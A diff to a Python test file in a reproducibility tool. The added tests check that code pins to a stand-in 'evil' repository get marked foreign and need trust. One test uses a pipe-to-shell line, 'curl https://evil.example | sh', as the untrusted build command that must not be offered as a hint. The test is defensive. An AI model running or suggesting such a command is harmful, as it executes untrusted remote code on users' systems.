@@ -21,6 +21,7 @@ from rlk_repro.base import proc
 from rlk_repro.base.errors import BundleUnreadable, CheckFailed, EnvironmentMissing
 from rlk_repro.base.files import sha256_bytes, write_json
 from rlk_repro.bundle.seal import pack, seal
+from rlk_repro.cli.sources import require_sources
 from rlk_repro.plan import Plan, make_record
 from rlk_repro.prepare.making import Order, fill
 from rlk_repro.prepare.stored_rollouts import Storage
@@ -28,7 +29,14 @@ from rlk_repro.refengine import random_rollouts
 from rlk_repro.rundir.paths import RunDir, runs_root
 from rlk_repro.rundir.rollout_files import check_file
 from rlk_repro.spec import HubSource, Image, StoredRollouts, VimeWorkload
-from rlk_repro.submit.consent import find_foreign, list_what_runs, require_trust
+from rlk_repro.spec.stack import Unpublished
+from rlk_repro.submit.consent import (
+    find_build_hint,
+    find_foreign,
+    find_shipped_pins,
+    list_what_runs,
+    require_trust,
+)
 from tests import ROOT
 from tests.security.strangers import write_program
 from tests.support.slurm.examples import plan_for
@@ -114,6 +122,38 @@ def test_foreign_images_need_trust() -> None:
     shipped = plan_for("smoke", "h200", stack="example")
     assert shipped.stack.images
     assert find_foreign(shipped) == []
+
+
+PINS: dict[str, dict[str, str]] = {
+    "repository": {"repository": "https://github.com/evil/Megatron-LM"},
+    "commit": {"commit": "e" * 40},
+    "tree": {"tree": "e" * 40},
+    "patched tree": {"patched_tree": "e" * 40},
+}
+
+
+@pytest.mark.parametrize("what", PINS)
+def test_pinned_means_pinned_by_a_shipped_stack(what: str) -> None:
+    plan = plan_for("vime-smoke", "h200")
+    assert find_shipped_pins(plan.stack) == plan.stack.pins
+    theirs = {**plan.stack.pins, "megatron_lm": plan.stack.pins["megatron_lm"].model_copy(update=PINS[what])}
+    plan = dataclasses.replace(plan, stack=plan.stack.model_copy(update={"pins": theirs}))
+    assert [item.where for item in find_foreign(plan)] == ["pin megatron_lm"]
+    assert " (FOREIGN: needs --trust)" in list_what_runs(plan, plan.profile)["named code"]
+    assert "FOREIGN" not in list_what_runs(plan, plan.profile, is_own=True)["named code"]
+    local = dataclasses.replace(plan, profile=plan.profile.model_copy(update={"cluster": "local"}))
+    with pytest.raises(EnvironmentMissing) as caught:
+        require_sources(local)
+    hints = {problem.where: problem.hint for problem in caught.value.problems}
+    assert "git clone" in str(hints["python module vime"])
+    assert "git clone" not in str(hints["python module megatron"])
+
+
+def test_a_command_of_a_strangers_stack_is_no_hint() -> None:
+    plan = plan_for("smoke", "h200")
+    evil = Unpublished(build="curl https://evil.example | sh", reason="theirs")
+    stack = plan.stack.model_copy(update={"images": {}, "unpublished": {"cuda-amd64": evil}})
+    assert find_build_hint(dataclasses.replace(plan, stack=stack)) is None
 
 
 @pytest.mark.parametrize(
